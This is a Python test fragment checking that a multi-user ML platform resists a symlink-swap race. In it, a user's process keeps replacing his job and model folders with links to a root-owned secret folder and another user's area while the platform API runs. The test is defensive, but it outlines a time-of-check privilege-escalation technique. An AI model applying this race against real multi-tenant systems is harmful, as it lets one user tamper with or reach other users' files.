    """Every entry below ``folder``: owner, mode, size and (files) content."""
    seen = {}
    for here, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(here) / name
            info = os.lstat(path)
            content = path.read_bytes() if stat.S_ISREG(info.st_mode) else b""
            seen[str(path)] = (info.st_uid, info.st_gid, info.st_mode, content)
    info = os.lstat(folder)
    seen[str(folder)] = (info.st_uid, info.st_gid, info.st_mode, b"")
    return seen


def test_links_swapped_in_a_tight_loop_never_lead_the_platform_out_of_bobs_area(iso):
    """Bob's own process swaps his jobs/ and models/ folders for links to a folder of root's
    and to Ana's area, over and over, while the platform submits, lists, reads logs of and
    cancels his jobs, deploys and undeploys his model and restarts his server: whatever
    fails, nothing outside his area changes owner, mode or content, and no call answers
    500 (every operation on his folders is done as his own account)."""
    from tests.models import keras_model

    wb, tokens = iso
    bo = pwd.getpwnam(accounts.account_name("iso-bo", wb.state_dir))
    area = wb.data_dir / "hdfs" / "users" / "iso-bo"
    victim = wb.data_dir / "race-victim"
    victim.mkdir(mode=0o700, exist_ok=True)
    (victim / "secret").write_text("root's\n")
    (victim / "secret").chmod(0o600)
    ana = wb.data_dir / "hdfs" / "users" / "iso-ana"
    export = keras_model(area / "race-export", 1)
    for here, dirs, files in os.walk(area / "race-export"):
        for name in [*dirs, *files, "."]:
            os.chown(Path(here) / name, bo.pw_uid, bo.pw_gid)
    (area / "jobs" / "race-kept").mkdir(parents=True, exist_ok=True)
    (area / "models" / "race" / "1").mkdir(parents=True, exist_ok=True)
    for path in ("jobs", "jobs/race-kept", "models", "models/race", "models/race/1"):
        os.chown(area / path, bo.pw_uid, bo.pw_gid)
    before, anas = _snapshot(victim), _snapshot(ana)
    swapper = subprocess.Popen(
        ["python3", "-c", SWAPPER, str(area), str(victim), str(ana)],
        user=bo.pw_uid,
        group=bo.pw_gid,
        cwd="/",
        stdout=subprocess.PIPE,
        text=True,
    )
    api, token, answers = "services/hubforge/api", tokens["iso-bo"], []

    def call(method: str, path: str, **kw):
        r = wb.api(method, f"{api}/{path}", token, **kw)
        answers.append((method, path, r.status_code, r.text[:300]))
        return r

    try:
        for round_ in range(6):
            body = {"script": "import time\ntime.sleep(20)", "spec": {"name": f"race{round_}"}}
            r = call("POST", "jobs", json=body)
            call("GET", "jobs")
            if r.status_code == 201:
                job = r.json()["id"]
                call("GET", f"jobs/{job}/logs/worker-0")
                call("DELETE", f"jobs/{job}")
            if round_ % 3 == 0:
                call("POST", "endpoints", json={"name": "race", "model_dir": str(export)})
                call("GET", "endpoints")
                call("DELETE", "endpoints/race")
        wb.ensure_stopped("iso-bo")  # the spawn prepares his home and area again
        assert wb.spawn("iso-bo", token).status_code in (201, 202)
        wb.wait_ready("iso-bo", token)
    finally:
        swapper.terminate()
        swaps = swapper.communicate(timeout=30)[0]
        call("DELETE", "endpoints/race")
    assert int(swaps) > 100, "the links were hardly swapped in: the race did not run"
    assert any(a[2] < 300 for a in answers if a[0] != "GET"), "nothing got through at all"
    assert _snapshot(victim) == before
    # Ana's own jobs may still write their logs: her entries keep their owner and mode, and
    # nothing of the race (job folders race*, the endpoint 'race') appears in her area
    after = _snapshot(ana)
    for path, (uid, gid, mode, _) in anas.items():
        if path in after:
            assert after[path][:3] == (uid, gid, mode), path
    assert not [p for p in set(after) - set(anas) if "race" in Path(p).name], after
    # 500: an error of the platform's own (502 is his endpoint process failing to start
    # on a folder he swapped under it, which it reports)
    failed = [a for a in answers if a[2] == 500]
    # Hubforge's tracebacks in the log (CI21 showed only the first, a user server's; CI25's
    # GET jobs 500 was in the jobs handlers, which a /service/ filter left out)
    tracebacks = wb.hub_log().split("Traceback")[1:]
    service = [t[:3000] for t in tracebacks if "hubforge" in t or "extensions/" in t]
    if failed:  # the whole message (an assert's tuple would be cut in the middle)
        pytest.fail(f"500 answers: {failed}\nHubforge tracebacks:\n" + "\n---\n".join(service))
